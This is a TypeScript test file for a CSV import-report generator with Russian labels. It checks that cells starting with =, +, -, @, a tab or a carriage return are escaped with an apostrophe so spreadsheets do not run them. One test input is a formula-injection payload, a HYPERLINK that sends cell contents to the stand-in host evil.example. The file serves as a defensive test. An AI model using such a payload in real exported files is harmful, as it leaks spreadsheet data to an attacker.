import { describe, expect, it } from 'vitest';
import { reportCsv } from './import-report';

const text = (buffer: Buffer) => buffer.toString('utf8').replace(/^\uFEFF/, '');

describe('the import report', () => {
  it('neutralises a cell Excel would run as a formula (= + - @, a tab or a carriage return first)', () => {
    const report = text(
      reportCsv({
        header: ['=Фамилия', 'Имя'],
        rows: [
          {
            row: 2,
            message: 'Дата смерти: неверная дата',
            cells: [
              '=HYPERLINK("http://evil.example/?"&A1;"Жми")',
              '+7 900',
              '-2+3',
              '@SUM(A1)',
              '\t=1',
              '\r=1',
            ],
          },
          { row: 3, message: 'Уже есть', cells: ['Иванов', '1950-05-01', ''] },
        ],
      }),
    );
    const lines = report.split('\r\n');
    expect(lines[0]).toBe("Строка;Проблема;'=Фамилия;Имя");
    expect(lines[1]).toBe(
      `2;Дата смерти: неверная дата;"'=HYPERLINK(""http://evil.example/?""&A1;""Жми"")";'+7 900;'-2+3;'@SUM(A1);'\t=1;"'\r=1"`,
    );
    // ordinary values stay as they are
    expect(lines[2]).toBe('3;Уже есть;Иванов;1950-05-01;');
  });
});
